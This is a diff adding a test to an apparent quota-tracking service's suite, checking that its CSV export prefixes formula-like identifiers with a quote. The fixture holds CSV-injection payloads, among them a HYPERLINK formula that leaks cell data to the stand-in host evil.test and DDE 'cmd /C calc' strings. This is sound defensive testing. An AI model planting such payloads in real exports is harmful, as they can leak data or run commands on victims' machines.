@@ -3,6 +3,9 @@ status and message a client sees, nothing written, the other tenant unaffected."
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import logging
 from decimal import Decimal
 from typing import Any
@@ -88,3 +91,35 @@ def test_retry_after_only_when_the_call_fits_the_limit_after_the_reset(
     assert err["exceeds_limit"] is True and "whole limit" in err["message"]
     assert Decimal(err["requested"]) > Decimal(err["quota_limit"])
     assert quota_row(conn, big)["reserved"] == 0 and fake.request_count() == 0
+
+
+# ---------------------------------------------------------------------------------------
+# 3. CSV export: no formulas
+# ---------------------------------------------------------------------------------------
+
+FORMULAS = {
+    "user_id": '=HYPERLINK("http://evil.test/?"&A1,"click")',
+    "session_id": "+1+cmd|' /C calc'!A0",
+    "conversation_id": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "workflow_id": "-2+3",
+}
+
+
+def test_csv_export_escapes_every_cell_a_spreadsheet_would_evaluate(
+    api: Api, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Identifiers starting with = + - @, recorded through the API with the org's key, come
+    out of `quotaflow export --format csv` prefixed with ' (and unchanged in JSON)."""
+    from quotaflow.cli import main
+
+    r = api.post("track", event_body(api.world.org, request_id="=1+1", **FORMULAS), as_="key")
+    assert r.status_code == 200, r.get_json()
+    args = ["--database-url", api.world.db_url, "export", "--org", api.world.org, "--no-progress"]
+    assert main([*args, "--format", "csv"]) == 0
+    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
+    for column, text in {**FORMULAS, "request_id": "=1+1"}.items():
+        assert row[column] == "'" + text
+    assert row["provider"] == "openai" and row["cost_usd"][0].isdigit()
+    assert main([*args, "--format", "jsonl"]) == 0
+    exported = json.loads(capsys.readouterr().out)
+    assert {k: exported[k] for k in FORMULAS} == FORMULAS
